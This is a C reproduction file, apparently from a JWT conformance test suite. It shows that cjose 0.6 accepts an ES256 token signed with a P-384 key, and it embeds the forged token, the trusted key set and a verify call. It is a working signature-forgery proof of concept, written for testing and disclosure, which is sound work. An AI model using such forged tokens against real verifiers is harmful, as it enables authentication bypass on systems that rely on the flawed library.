/* cjose 0.6 verifies an ES256 token whose signature was made with a P-384 key over SHA-256: the
 * header's alg picks the hash, and nothing binds ES256 to P-256. Whoever controls any EC key the
 * verifier trusts, on any curve, signs under every ES* algorithm the application meant to allow
 * for other keys only.
 *
 * RFC 8725 §3.1 (RFC8725-3.1-alg): "The library MUST ensure that the "alg" or "enc" header
 * specifies the same algorithm that is used for the cryptographic operation. Moreover, each key
 * MUST be used with exactly one algorithm, and this MUST be checked when the cryptographic
 * operation is performed." RFC 7518 §3.4: ES256 is ECDSA using P-256 and SHA-256.
 *
 * Reproduces: ecdsa/es256-signed-by-p384-key (forgery)
 *
 * cjose is configured exactly as the jwt-conformance adapter does (adapters/cjose/adapter.c):
 * cjose_jws_import on the token, cjose_jwk_import of the key set's JWK whose kid matches the
 * token's (else the first), cjose_jws_verify. cjose verifies signatures only: no algorithm,
 * issuer, audience, clock or typ setting exists (the vector's profile: issuer
 * https://issuer.example, audience https://api.example, algorithms [ES256, ES384], now
 * 1700000000).
 *
 * Run (Debian libcjose-dev installed): bash scripts/setup/c.sh && adapters/cjose/bin/repro-curve
 * or: gcc -o repro-curve adapters/cjose/repro-curve.c $(pkg-config --cflags --libs cjose jansson) && ./repro-curve
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cjose/cjose.h>
#include <jansson.h>

#define ID "ecdsa/es256-signed-by-p384-key"
#define WHAT "an ES256 token signed by a P-384 key"

static const char TOKEN[] =
    "eyJhbGciOiJFUzI1NiIsImtpZCI6InAzODQiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY"
    "2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1Z"
    "XIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.N30x3JTCnci3wq"
    "aq4oLiNFeCpUTyiKqd5Z-XiC50OdAppf5Tm56D0KcHd45470xYdPimEN-t-nlkRYVRJmhaP0IVHn25qq4hWYWaf9IZOkc_pw-KO3"
    "OktxWh8yTubw4u";
static const char JWKS[] =
    "{\"keys\":[{\"crv\":\"P-384\",\"kid\":\"p384\",\"kty\":\"EC\",\"use\":\"sig\",\"x\":\"L7sEUkkF-LfDYiaMeKV6kzFD7oBQ0ti2LVU"
    "PxjhIz_-4-bQHzRPIfnR2RA8o0x5k\",\"y\":\"Mz9ugU5C1rbjCMja3boHI2sceo1S0gTT7GM0IJrxqMsC41GAv2t44bbOw4ocU9Al"
    "\"}]}";

/* The JWK whose kid equals the token's (read with cjose's header parser), else the first, as the
 * adapter picks it (cjose has no key-set type). */
static json_t *pick_key(json_t *keys, const char *kid)
{
    json_t *key;
    size_t i;
    if (kid)
        json_array_foreach(keys, i, key) {
            const char *k = json_string_value(json_object_get(key, "kid"));
            if (k && !strcmp(k, kid))
                return key;
        }
    return json_array_get(keys, 0);
}

int main(void)
{
    cjose_err err = {0};
    cjose_jws_t *jws = cjose_jws_import(TOKEN, strlen(TOKEN), &err);
    const char *kid = jws ? cjose_header_get(cjose_jws_get_protected(jws), "kid", &err) : NULL;
    json_t *set = json_loads(JWKS, 0, NULL);
    char *key_json = json_dumps(pick_key(json_object_get(set, "keys"), kid), JSON_COMPACT);
    cjose_jwk_t *jwk = key_json ? cjose_jwk_import(key_json, strlen(key_json), &err) : NULL;
    int accepted = jws && jwk && cjose_jws_verify(jws, jwk, &err);
    if (accepted)
        printf("REPRODUCED %s: cjose_jws_verify accepted %s\n", ID, WHAT);
    else
        printf("NOT REPRODUCED %s: cjose refused it (%s)\n", ID, err.message ? err.message : "no error message");
    cjose_jwk_release(jwk);
    free(key_json);
    json_decref(set);
    cjose_jws_release(jws);
    return accepted ? 0 : 1;
}
